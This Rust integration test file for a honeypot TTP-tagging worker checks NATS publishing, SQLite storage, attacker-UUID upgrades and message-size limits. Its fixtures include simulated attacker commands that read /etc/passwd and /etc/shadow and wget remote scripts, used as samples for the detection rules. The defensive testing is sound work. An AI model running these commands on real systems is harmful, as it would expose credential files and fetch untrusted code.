//! The whole pipeline in-process — real `nats-server`, real bus, real main loop, real tagging
//! engine, real SQLite file — checked against what `ttp-worker tag` computes for the same input.

#![allow(deprecated)]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use common::corpus::{
    corpus_lines, decnet_stored_tags, reference_options, reference_tag_candidates, stored_rows,
    subject_of,
};
use common::inproc::InProcessWorker;
use common::{NatsServer, PATIENCE, envelope_body};
use ttp_worker::counters::Counters;
use ttp_worker::daemon::TaggingPipeline;
use ttp_worker::store::Store;
use ttp_worker::tagging::{EngineOptions, Tagger};

fn start_pipeline(
    server: &NatsServer,
    durable: bool,
    db: &Path,
    options: &EngineOptions,
) -> InProcessWorker {
    let mut tagger = Tagger::new(options).expect("engine");
    let store = Store::open(db).expect("store");
    tagger.restore_learned_anchors(store.load_anchors().unwrap());
    InProcessWorker::start_handler(server, durable, move |counters: Arc<Counters>| {
        TaggingPipeline::new(tagger, store, counters)
    })
}

fn publish_lines(server: &NatsServer, lines: &[String]) {
    let client = server.client();
    for line in lines {
        client.publish(&subject_of(line), line).unwrap();
    }
    client.flush().unwrap();
}

/// Everything published on `ttp.>` until `quiet` passes without a message.
fn drain(subscription: &nats::Subscription, quiet: Duration) -> Vec<(String, Value)> {
    let mut out = Vec::new();
    while let Ok(message) = subscription.next_timeout(quiet) {
        let envelope: Value = serde_json::from_slice(&message.data).unwrap();
        assert_eq!(envelope["topic"], message.subject.as_str());
        out.push((message.subject, envelope["payload"].clone()));
    }
    out
}

#[test]
fn the_corpus_through_nats_stores_what_tag_computes_and_a_replay_adds_nothing() {
    let server = NatsServer::start();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ttp.db");
    let listener = server.client();
    let announcements = listener.subscribe("ttp.>").unwrap();
    listener.flush().unwrap();

    let worker = start_pipeline(&server, false, &db, &reference_options());
    thread::sleep(Duration::from_millis(200)); // subscriptions in place
    let lines = corpus_lines();
    publish_lines(&server, &lines);
    worker.wait_processed(lines.len() as u64);

    // Every stored row is what the engine computes for one of the events that give its uuid;
    // IP-anchored rows may since have been given the attacker uuid a later event revealed.
    let expected = reference_tag_candidates(&lines);
    let stored = stored_rows(&db);
    assert_eq!(
        stored.keys().collect::<BTreeSet<_>>(),
        expected.keys().collect::<BTreeSet<_>>()
    );
    for (uuid, row) in &stored {
        let matches_one = expected[uuid].iter().any(|candidate| {
            let mut want = serde_json::to_value(candidate).unwrap();
            if want["attacker_uuid"].is_null() {
                want["attacker_uuid"] = row["attacker_uuid"].clone();
            }
            want == Value::Object(row.clone())
        });
        assert!(
            matches_one,
            "row {uuid}: {row:?}\nnone of {:?}",
            expected[uuid]
        );
    }

    // DECNET's own tags are stored exactly as DECNET stores them, whichever subscription
    // delivered first; only where DECNET itself gives one uuid to several events it anchors
    // (a canary token's triggers by different attackers, an identity's roll-ups from two
    // subjects) the first to arrive wins, on both sides.
    let mut decnet_tags = 0;
    for (uuid, want) in decnet_stored_tags() {
        let named = |candidates: &Vec<_>| {
            candidates
                .iter()
                .filter(|tag: &&ttp_worker::tagging::Tag| {
                    tag.attacker_uuid.is_some() || tag.identity_uuid.is_some()
                })
                .count()
        };
        if expected
            .get(&uuid)
            .is_some_and(|candidates| named(candidates) > 1)
        {
            continue;
        }
        let row = stored
            .get(&uuid)
            .unwrap_or_else(|| panic!("DECNET's {uuid} not stored"));
        for (key, value) in want.as_object().into_iter().flatten() {
            assert_eq!(row.get(key), Some(value), "{uuid} {key}");
        }
        decnet_tags += 1;
    }
    assert!(decnet_tags > 1000, "{decnet_tags}");

    // Each ttp.tagged lists only new rows: together they name every row exactly once, and
    // each is followed by its ttp.rule.fired.<T> in ascending technique order.
    let published = drain(&announcements, Duration::from_millis(500));
    let mut announced = Vec::new();
    let mut i = 0;
    while i < published.len() {
        let (subject, payload) = &published[i];
        assert_eq!(subject, "ttp.tagged", "rule.fired without its ttp.tagged");
        let uuids: Vec<String> = serde_json::from_value(payload["tag_uuids"].clone()).unwrap();
        let techniques: Vec<String> =
            serde_json::from_value(payload["techniques_added"].clone()).unwrap();
        assert_eq!(payload["tags"].as_array().unwrap().len(), uuids.len());
        for (j, technique) in techniques.iter().enumerate() {
            let (fired_subject, fired) = &published[i + 1 + j];
            assert_eq!(fired_subject, &format!("ttp.rule.fired.{technique}"));
            assert_eq!(&fired["technique_id"], technique);
        }
        let mut sorted = techniques.clone();
        sorted.sort();
        assert_eq!(techniques, sorted);
        announced.extend(uuids);
        i += 1 + techniques.len();
    }
    let distinct: BTreeSet<&String> = announced.iter().collect();
    assert_eq!(distinct.len(), announced.len(), "a tag was announced twice");
    assert_eq!(distinct, stored.keys().collect::<BTreeSet<_>>());
    assert_eq!(
        Counters::get(&worker.counters.tags_inserted),
        stored.len() as u64
    );

    // The same corpus again: nothing new stored, nothing announced.
    publish_lines(&server, &lines);
    worker.wait_processed(2 * lines.len() as u64);
    assert_eq!(stored_rows(&db).len(), stored.len());
    assert!(drain(&announcements, Duration::from_millis(500)).is_empty());
    worker.stop();
}

fn session_ended(ip: &str, session: &str, command: &str) -> Vec<u8> {
    envelope_body(
        "attacker.session.ended",
        "session.ended",
        json!({
            "session_id": session, "attacker_uuid": null, "attacker_ip": ip,
            "decky_id": "omega-decky", "service": "ssh", "ended_at": "2026-05-02T06:23:30",
            "duration_s": 12.5,
            "commands": [{"id": format!("{session}#0"), "command_text": command,
                          "ts": "2026-05-02T06:21:02", "decky": "omega-decky", "service": "bash"}],
        }),
    )
}

fn rows_of_ip(db: &Path, ip: &str) -> BTreeMap<String, Option<String>> {
    stored_rows(db)
        .into_iter()
        .filter(|(_, row)| row["attacker_ip"] == ip)
        .map(|(uuid, row)| (uuid, row["attacker_uuid"].as_str().map(str::to_owned)))
        .collect()
}

#[test]
fn ip_anchored_tags_are_upgraded_when_a_later_event_reveals_the_attacker() {
    let server = NatsServer::start();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ttp.db");
    let ip = "198.51.100.77";
    let attacker = "0e7c1f0a-3b9d-4c55-8f21-6a1d2b3c4d5e";
    let builtin = EngineOptions::default();

    let worker = start_pipeline(&server, false, &db, &builtin);
    thread::sleep(Duration::from_millis(200));
    let client = server.client();
    client
        .publish(
            "attacker.session.ended",
            session_ended(
                ip,
                "8d0c3f7e-0000-4000-8000-000000000001",
                "cat /etc/passwd; uname -a",
            ),
        )
        .unwrap();
    client.flush().unwrap();
    worker.wait_processed(1);
    let before = rows_of_ip(&db, ip);
    assert!(!before.is_empty(), "the built-in pack tagged nothing");
    assert!(before.values().all(Option::is_none), "{before:?}");

    // Threat intel names the attacker behind the IP.
    client
        .publish(
            "attacker.intel.enriched",
            envelope_body(
                "attacker.intel.enriched",
                "intel.enriched",
                json!({"attacker_uuid": attacker, "attacker_ip": ip, "aggregate_verdict": "unknown",
                       "providers": [], "abuseipdb_score": null, "abuseipdb_categories": [],
                       "greynoise_classification": null, "greynoise_name": null, "greynoise_tags": [],
                       "feodo_listed": null, "feodo_malware_family": null, "threatfox_listed": null,
                       "threatfox_threat_types": [], "threatfox_ioc_types": [],
                       "threatfox_malware_families": []}),
            ),
        )
        .unwrap();
    client.flush().unwrap();
    worker.wait_processed(2);
    let after = rows_of_ip(&db, ip);
    assert_eq!(
        before.keys().collect::<Vec<_>>(),
        after.keys().collect::<Vec<_>>(),
        "uuids must not change"
    );
    for (uuid, anchor) in &after {
        if before.contains_key(uuid) {
            assert_eq!(anchor.as_deref(), Some(attacker), "{uuid} not upgraded");
        }
    }
    worker.stop();

    // A new worker on the same store remembers the IP.
    let worker = start_pipeline(&server, false, &db, &builtin);
    thread::sleep(Duration::from_millis(200));
    client
        .publish(
            "attacker.session.ended",
            session_ended(
                ip,
                "8d0c3f7e-0000-4000-8000-000000000002",
                "wget http://203.0.113.5/x.sh",
            ),
        )
        .unwrap();
    client.flush().unwrap();
    worker.wait_processed(1);
    let later = rows_of_ip(&db, ip);
    assert!(later.len() > after.len());
    assert!(
        later.values().all(|a| a.as_deref() == Some(attacker)),
        "{later:?}"
    );
    worker.stop();
}

#[test]
fn a_store_that_cannot_be_written_holds_the_batch_unacked_and_resumes() {
    let server = NatsServer::start_jetstream();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ttp.db");
    let builtin = EngineOptions::default();
    let worker = start_pipeline(&server, true, &db, &builtin);
    let js = nats::jetstream::new(server.client());
    let deadline = Instant::now() + PATIENCE;
    while js
        .consumer_info("DECNET_TTP_IN", "ttp-attacker_session_ended")
        .is_err()
    {
        assert!(
            Instant::now() < deadline,
            "the worker never created its consumer"
        );
        thread::sleep(Duration::from_millis(20));
    }

    // Another connection takes the write lock: every commit fails once its wait runs out.
    let blocker = rusqlite::Connection::open(&db).unwrap();
    blocker.execute_batch("BEGIN IMMEDIATE").unwrap();

    js.publish(
        "attacker.session.ended",
        session_ended(
            "192.0.2.10",
            "8d0c3f7e-0000-4000-8000-000000000003",
            "uname -a",
        ),
    )
    .unwrap();
    let deadline = Instant::now() + PATIENCE;
    while Counters::get(&worker.counters.store_errors) == 0 {
        assert!(Instant::now() < deadline, "the commit never failed");
        thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(Counters::get(&worker.counters.processed), 0);
    let pending = js
        .consumer_info("DECNET_TTP_IN", "ttp-attacker_session_ended")
        .unwrap()
        .num_ack_pending;
    assert_eq!(pending, 1, "the message must stay unacknowledged");

    blocker.execute_batch("ROLLBACK").unwrap();
    worker.wait_processed(1);
    assert!(!rows_of_ip(&db, "192.0.2.10").is_empty());
    let deadline = Instant::now() + PATIENCE;
    while js
        .consumer_info("DECNET_TTP_IN", "ttp-attacker_session_ended")
        .unwrap()
        .num_ack_pending
        > 0
    {
        assert!(
            Instant::now() < deadline,
            "never acknowledged after the commit"
        );
        thread::sleep(Duration::from_millis(50));
    }
    worker.stop();
}

/// One session giving 30,000 new tags: far over the server's `max_payload` as one
/// `ttp.tagged` (about 1.1 MB of UUIDs alone), so it is announced in several, each within
/// the limit, that together name every stored row exactly once; so are its `ttp.rule.fired`.
#[test]
fn thirty_thousand_tags_of_one_event_are_all_announced_within_the_bus_limit() {
    let server = NatsServer::start();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ttp.db");
    let listener = server.client();
    let announcements = listener.subscribe("ttp.>").unwrap();
    listener.flush().unwrap();
    let worker = start_pipeline(&server, false, &db, &EngineOptions::default());
    thread::sleep(Duration::from_millis(200));

    // Three built-in rules fire on each command (T1003, T1105, T1082).
    let commands: Vec<Value> = (0..10_000)
        .map(|i| json!({"id": format!("big#{i}"), "command_text": "cat /etc/shadow;wget http://x/a;uname -a"}))
        .collect();
    let body = envelope_body(
        "attacker.session.ended",
        "session.ended",
        json!({"session_id": "big", "attacker_uuid": "6f1c2a9e-0000-4000-8000-0000000000aa",
               "decky_id": "omega-decky", "commands": commands}),
    );
    let client = server.client();
    let limit = client.max_payload();
    assert!(body.len() < limit);
    client.publish("attacker.session.ended", &body).unwrap();
    client.flush().unwrap();
    worker.wait_processed(1);

    let stored = stored_rows(&db);
    assert_eq!(stored.len(), 30_000);
    let mut tagged = Vec::new();
    let mut fired = Vec::new();
    let deadline = Instant::now() + PATIENCE;
    while (tagged.len() < 30_000 || fired.len() < 30_000) && Instant::now() < deadline {
        let Ok(message) = announcements.next_timeout(Duration::from_secs(1)) else {
            continue;
        };
        assert!(message.data.len() <= limit, "{} bytes", message.data.len());
        let envelope: Value = serde_json::from_slice(&message.data).unwrap();
        let payload = &envelope["payload"];
        let uuids: Vec<String> = serde_json::from_value(payload["tag_uuids"].clone()).unwrap();
        if message.subject == "ttp.tagged" {
            assert_eq!(payload["tags"].as_array().unwrap().len(), uuids.len());
            assert_eq!(payload["session_id"], "big");
            tagged.extend(uuids);
        } else {
            fired.extend(uuids);
        }
    }
    let distinct: BTreeSet<&String> = tagged.iter().collect();
    assert_eq!(tagged.len(), 30_000, "each tag announced once");
    assert_eq!(distinct, stored.keys().collect::<BTreeSet<_>>());
    let fired: BTreeSet<&String> = fired.iter().collect();
    assert_eq!(fired, distinct);
    assert_eq!(Counters::get(&worker.counters.publish_errors), 0);
    worker.stop();
}
